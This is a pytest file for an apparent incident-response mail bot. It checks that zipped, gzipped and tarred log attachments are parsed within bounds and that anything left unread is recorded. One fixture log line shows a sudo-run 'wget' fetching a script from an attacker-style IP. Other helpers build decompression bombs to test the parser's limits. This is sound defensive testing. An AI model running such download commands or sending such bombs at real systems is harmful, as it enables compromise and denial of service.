"""Compressed attachments: their text members are read, under bounds.

A site sends its logs as `auth.log.gz`, `logs.zip` or `logs.tar.gz`,
Shadowserver its events as `*.csv.zip`: each text member is an attachment
of its own (`logs.zip/auth.log`) and gives what the same file sent plain
gives. A bomb (a gzip of a gigabyte of zeros, a zip of 10,000 members)
costs bounded time and memory; whatever is not read is a defect on the
mail, and the raw mail is kept whole.
"""

from __future__ import annotations

import base64
import datetime as dt
import email
import gzip
import io
import resource
import tarfile
import time
import zipfile
from email.message import EmailMessage
from email.policy import compat32
from pathlib import Path

import pytest
from mailbot_env import make_app

from mailbot import views
from mailbot.app import App
from mailbot.db.models import Mail
from mailbot.mail import Attachment, RawMail
from mailbot.parse import parse
from mailbot.process import process_delivery

NOW = dt.datetime(2026, 12, 4, 12, 0, tzinfo=dt.UTC)

# A site's sshd and sudo log: 3 attacker addresses (one in a URL), 4 times.
LOG = "".join(
    f"Dec  {day} {time} ui01 {what}\n"
    for day, time, what in (
        (3, "23:41:02", "sshd[2211]: Failed password for root from 203.0.113.77"),
        (3, "23:41:09", "sshd[2211]: Accepted password for jdoe from 203.0.113.77"),
        (
            3,
            "23:45:13",
            "sshd[2290]: Accepted publickey for jdoe from 2001:db8:bad::66",
        ),
        (
            4,
            "01:02:03",
            "sudo: jdoe : USER=root ; COMMAND=/usr/bin/wget http://198.51.100.23/x.sh",
        ),
    )
).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _tar(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _site_mail(filename: str, data: bytes, subtype: str, n: str) -> bytes:
    message = EmailMessage()
    message["From"] = "admin@site-a.example.com"
    message["To"] = "abuse@csirt.example.org"
    message["Subject"] = "Compromised UI at SITE-A"
    message["Date"] = "Fri, 04 Dec 2026 10:00:00 +0000"
    message["Message-ID"] = f"<archive-{n}@site-a.example.com>"
    message.set_content("Logs attached. Compromised host ui01.site-a.example.com.\n")
    maintype = "text" if subtype == "plain" else "application"
    message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes()


def _feed(app: App, raw: bytes) -> tuple[Mail, str | None, str]:
    outcome = process_delivery(app, RawMail(raw, NOW, "test"))
    assert outcome.result == "processed", outcome.reason
    with app.db.transaction() as session:
        row = session.get(Mail, outcome.mail_id)
        assert row is not None
        session.expunge(row)
    assert row.message_id is not None
    return row, outcome.incident, row.message_id


def _found(
    app: App, tag: str | None, message_id: str
) -> tuple[list[dict], set[tuple[str, str, str]]]:
    """The provenance rows one mail gave its incident, and their values."""
    assert tag is not None
    shown = views.show(app, tag)
    assert shown is not None
    rows = [row for row in shown["provenance"] if row["message_id"] == message_id]
    return rows, {
        (r["field"], r["value"], r["kind"]) for r in rows if r["kind"] != "text"
    }


ARCHIVES = {
    "gzip": ("auth.log.gz", gzip.compress(LOG), "gzip", "auth.log"),
    "zip": ("logs.zip", _zip({"logs/auth.log": LOG}), "zip", "logs/auth.log"),
    "tar.gz": ("logs.tar.gz", _tar({"var/log/secure": LOG}), "gzip", "var/log/secure"),
    "tgz": ("logs.tgz", _tar({"secure": LOG}), "x-gtar", "secure"),
    "tar": ("logs.tar", _tar({"auth.log": LOG}, "w"), "x-tar", "auth.log"),
}


@pytest.mark.parametrize("kind", sorted(ARCHIVES))
def test_a_packed_log_gives_what_the_plain_log_gives(
    tmp_path: Path, database_url: str, kind: str
) -> None:
    app = make_app(tmp_path, database_url, now=NOW)
    _, plain_tag, plain_id = _feed(app, _site_mail("auth.log", LOG, "plain", "p"))
    filename, data, subtype, member = ARCHIVES[kind]
    row, tag, message_id = _feed(app, _site_mail(filename, data, subtype, kind))
    _, expected = _found(app, plain_tag, plain_id)
    rows, found = _found(app, tag, message_id)
    assert ("attacker_ips", "203.0.113.77", "ipv4") in expected
    assert len([r for r in expected if r[2] == "timestamp"]) == 4
    assert found == expected
    # Where each value came from: the member, an attachment of its own.
    parts = {r["part"] for r in rows if r["value"] == "203.0.113.77"}
    assert parts == {f"2/{member}"}
    names = [a["name"] for a in row.attachments or []]
    assert names == [filename, f"{filename}/{member}"]
    assert not [d for d in row.defects or [] if filename in d]
    app.close()


def test_shadowservers_zipped_csv_gives_its_events(
    corpus_dir: Path, tmp_path: Path, database_url: str
) -> None:
    """The corpus's Shadowserver report: its events are in a .csv.zip. They
    give what the same CSV sent unzipped gives, and the reporter's own
    names stay out (test_reporter_fields)."""
    sample = "2019-10-15-scan_http-sample-asn.csv.zip.eml"
    raw = (corpus_dir / "abuseio/shadowserver" / sample).read_bytes()
    parsed = parse(raw)
    (archive,) = [a for a in parsed.attachments if a.filename.endswith(".csv.zip")]
    (member,) = [a for a in parsed.attachments if a.part.startswith(f"{archive.part}/")]
    assert member.content_type == "text/csv" and b"," in member.payload
    unzipped = _unzipped(raw, archive.filename, member)
    assert unzipped != raw

    app = make_app(tmp_path, database_url, now=NOW)
    _, tag, message_id = _feed(app, raw)
    _, found = _found(app, tag, message_id)
    assert "31.42.105.195" in {v for _, v, _ in found}
    assert not [v for _, v, _ in found if "shadowserver.org" in v]
    _, plain_tag, plain_id = _feed(app, unzipped)
    _, expected = _found(app, plain_tag, plain_id)
    assert found == expected
    app.close()


def _unzipped(raw: bytes, filename: str, member: Attachment) -> bytes:
    """The same mail with the member sent plain in place of its archive."""
    message = email.message_from_bytes(raw, policy=compat32)
    name = member.filename.rpartition("/")[2]
    for part in message.walk():
        if part.get_filename() == filename:
            part.set_payload(base64.encodebytes(member.payload).decode("ascii"))
            part.replace_header("Content-Type", f'text/csv; name="{name}"')
            part.replace_header("Content-Disposition", f'attachment; filename="{name}"')
    message.replace_header("Message-ID", "<unzipped@reports.shadowserver.org>")
    return message.as_bytes()


def _zeros_gzip(total: int, head: bytes = b"") -> bytes:
    """A gzip stream of `head` and `total` zero bytes: one gzip member per
    megabyte, each the same (a gzip file may hold many members), so that
    neither the zeros nor the time to compress them are spent whole."""
    megabyte = gzip.compress(bytes(1 << 20))
    return gzip.compress(head) + megabyte * (total >> 20)


def _bounded(raw: bytes) -> tuple[float, int]:
    """Parse `raw`; the seconds it took and the growth of the peak RSS (kB)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    parse(raw)
    took = time.monotonic() - start
    return took, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before


BOMBS = {
    "gzip of 10 MB of zeros": ("zeros.log.gz", lambda: _zeros_gzip(10 << 20), "gzip"),
    "gzip of 1 GB of zeros": ("zeros.log.gz", lambda: _zeros_gzip(1 << 30), "gzip"),
    "tar.gz of 1 GB of zeros": (
        "logs.tar.gz",
        lambda: _tar_of_zeros(1 << 30),
        "gzip",
    ),
    "zip of 10,000 members": (
        "many.zip",
        lambda: _zip({f"m{n}.log": b"203.0.113.9 x\n" for n in range(10_000)}),
        "zip",
    ),
    "zip of 100 MB of zeros": ("zeros.zip", lambda: _zip_of_zeros(100 << 20), "zip"),
}


def _tar_of_zeros(total: int) -> bytes:
    header = tarfile.TarInfo("zeros.log")
    header.size = total
    return _zeros_gzip(total, header.tobuf(format=tarfile.GNU_FORMAT))


def _zip_of_zeros(total: int) -> bytes:
    out = io.BytesIO()
    chunk = bytes(1 << 20)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.log", "w", force_zip64=True) as member,
    ):
        for _ in range(total >> 20):
            member.write(chunk)
    return out.getvalue()


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_bomb_costs_bounded_time_and_memory(
    tmp_path: Path, database_url: str, bomb: str
) -> None:
    filename, build, subtype = BOMBS[bomb]
    raw = _site_mail(filename, build(), subtype, "bomb")
    took, grown = _bounded(raw)
    # 10 MiB unpacked at most per archive: well under a second of work and
    # a few times that in memory, however much the archive claims to hold.
    assert took < 10, took
    assert grown < 200_000, grown
    app = make_app(
        tmp_path,
        database_url,
        now=NOW,
        extra={"MAILBOT_LIMITS_MAX_SECONDS_PER_MAIL": "30"},
    )
    row, _, _ = _feed(app, raw)
    assert row.raw == raw
    said = [d for d in row.defects or [] if filename in d]
    assert said, row.defects
    if "members" in bomb:
        assert "over_limit" in row.flags
        assert any("10000 members, only the first 100 read" in d for d in said)
    else:
        assert any("not read as text" in d or "cut" in d for d in said), said
    app.close()


def test_a_small_mail_of_packed_blank_lines_is_read_within_a_line_budget(
    tmp_path: Path, database_url: str
) -> None:
    # A retester's finding: 30 zips of newlines in a 386 KB mail cost 27 s
    # and 1 GB, as the same lines sent plain in 22 MB did. What the mail's
    # line budget leaves is a defect that names it; the rest is read.
    message = EmailMessage()
    message["From"] = "admin@site-a.example.com"
    message["To"] = "abuse@csirt.example.org"
    message["Subject"] = "Compromised UI at SITE-A"
    message["Date"] = "Fri, 04 Dec 2026 10:00:00 +0000"
    message["Message-ID"] = "<archive-blank@site-a.example.com>"
    message.set_content("Logs attached. Compromised host ui01.site-a.example.com.\n")
    for n in range(30):
        data = _zip({f"x{n}.log": LOG + b"\n" * 200_000})
        message.add_attachment(
            data, maintype="application", subtype="zip", filename=f"l{n}.zip"
        )
    raw = message.as_bytes()
    assert len(raw) < 100_000
    app = make_app(tmp_path, database_url, now=NOW)
    row, tag, message_id = _feed(app, raw)
    [note] = [d for d in row.defects or [] if "line budget" in d]
    assert "part 2/x0.log: 9 values read; not read: 100007 lines after" in note
    assert "29 of 31 parts not read: the mail's line budget" in note, note
    assert "(3/x1.log, 4/x2.log, 5/x3.log, ...)" in note, note
    _, values = _found(app, tag, message_id)
    assert ("attacker_ips", "203.0.113.77", "ipv4") in values
    app.close()


def test_what_is_not_read_is_said() -> None:
    encrypted = _zip({"secret.log": LOG})
    # The "encrypted" flag bit set in the local and central headers.
    encrypted = encrypted.replace(
        b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00"
    )
    encrypted = encrypted.replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )
    inner = _zip({"inner.log": LOG})
    mixed = _zip({"a.log": LOG, "tool.bin": bytes(range(256)) * 4, "inner.zip": inner})
    cases = {
        "secret.zip": (encrypted, "1 encrypted member(s) not read: secret.log"),
        "mixed.zip": (mixed, "binary member(s) not read as text: tool.bin"),
        "nested.zip": (
            mixed,
            "archive inside an archive listed, not opened: inner.zip",
        ),
        "broken.zip": (b"PK\x03\x04garbage", "corrupt zip archive (BadZipFile)"),
        "cut.log.gz": (gzip.compress(LOG)[:-30], "gzip stream cut short"),
        "fake.gz": (b"not gzip at all", "not a readable archive"),
        "huge.zip": (
            _zip({f"e{n}": b"" for n in range(25_000)}),
            "a directory of 1",
        ),
    }
    for filename, (data, note) in cases.items():
        parsed = parse(_site_mail(filename, data, "octet-stream", filename))
        assert any(filename in d and note in d for d in parsed.defects), (
            filename,
            parsed.defects,
        )
    parsed = parse(_site_mail("mixed.zip", mixed, "zip", "m"))
    read = [p.filename for p in parsed.text_parts if p.kind == "attachment"]
    assert read == ["mixed.zip/a.log"]
    listed = [a.filename for a in parsed.attachments]
    assert listed == [
        "mixed.zip",
        "mixed.zip/a.log",
        "mixed.zip/tool.bin",
        "mixed.zip/inner.zip",
    ]
    # A cut gzip still gives what it held.
    parsed = parse(_site_mail("cut.log.gz", gzip.compress(LOG * 50)[:-12], "gzip", "c"))
    assert any("203.0.113.77" in p.text for p in parsed.text_parts)


def test_a_tar_of_many_members_says_how_many_and_no_cut_it_did_not_make() -> None:
    # A retester's finding: a tar.gz of 20,000 small members said
    # "members, only the first 100 read" (no count), and that its 20 MB
    # stream was cut at 10 MB, though the 100 members read were whole.
    data = _tar({f"t{n}.log": LOG for n in range(20_000)})
    parsed = parse(_site_mail("logs.tar.gz", data, "gzip", "many"))
    said = [d for d in parsed.defects if "logs.tar.gz" in d]
    assert said == [
        "over limit: part 2 logs.tar.gz: more than 100 members, only the first 100 read"
    ]
    members = [a for a in parsed.attachments if "/" in a.part]
    assert len(members) == 100 and all(a.read for a in members)


def test_a_member_cut_and_not_read_is_listed_as_not_read() -> None:
    # A retester's finding: a gzip of zeros was listed as read, with the
    # 10 MB it was cut at, while its defects said it was not read.
    parsed = parse(_site_mail("zeros.log.gz", _zeros_gzip(12 << 20), "gzip", "z"))
    [member] = [a for a in parsed.attachments if "/" in a.part]
    assert (member.filename, member.size, member.read, member.payload) == (
        "zeros.log.gz/zeros.log",
        10 << 20,
        False,
        b"",
    )
    assert any("zeros.log cut, the rest not read" in d for d in parsed.defects)
    # A text member cut at the limit is read up to the cut, as before.
    data = _zip({"big.log": LOG * ((11 << 20) // len(LOG) + 1)})
    parsed = parse(_site_mail("big.zip", data, "zip", "b"))
    [member] = [a for a in parsed.attachments if "/" in a.part]
    assert member.read and member.size == 10 << 20
    assert any("203.0.113.77" in p.text for p in parsed.text_parts)


def test_the_mails_archives_share_one_budget() -> None:
    message = EmailMessage()
    message["From"] = "admin@site-a.example.com"
    message["Subject"] = "Logs"
    message["Message-ID"] = "<budget@site-a.example.com>"
    message.set_content("Logs attached.\n")
    for n in range(3):
        data = gzip.compress(LOG * 2000)
        message.add_attachment(
            data, maintype="application", subtype="gzip", filename=f"l{n}.log.gz"
        )
    raw = message.as_bytes()
    size = len(LOG) * 2000
    parsed = parse(raw, max_unpacked_bytes=int(size * 1.5))
    lengths = [a.size for a in parsed.attachments if "/" in a.part]
    assert lengths == [size, size // 2]
    assert any("l1.log.gz" in d and d.startswith("over limit:") for d in parsed.defects)
    assert any("l2.log.gz: not unpacked" in d for d in parsed.defects)


def test_an_archive_typed_text_is_unpacked_and_a_text_named_so_is_read() -> None:
    parsed = parse(_site_mail("auth.log.gz", gzip.compress(LOG), "plain", "t"))
    read = [p.filename for p in parsed.text_parts if p.kind == "attachment"]
    assert read == ["auth.log.gz/auth.log"]
    parsed = parse(_site_mail("notes.gz", LOG, "plain", "n"))
    assert [p.filename for p in parsed.text_parts if p.kind == "attachment"] == [
        "notes.gz"
    ]
    assert not [d for d in parsed.defects if "notes.gz" in d]


def test_an_office_document_is_no_archive() -> None:
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    for name in ("report.docx", "report.bin"):
        parsed = parse(_site_mail(name, docx, "octet-stream", name))
        assert [a.filename for a in parsed.attachments] == [name]
        assert not [d for d in parsed.defects if name in d]
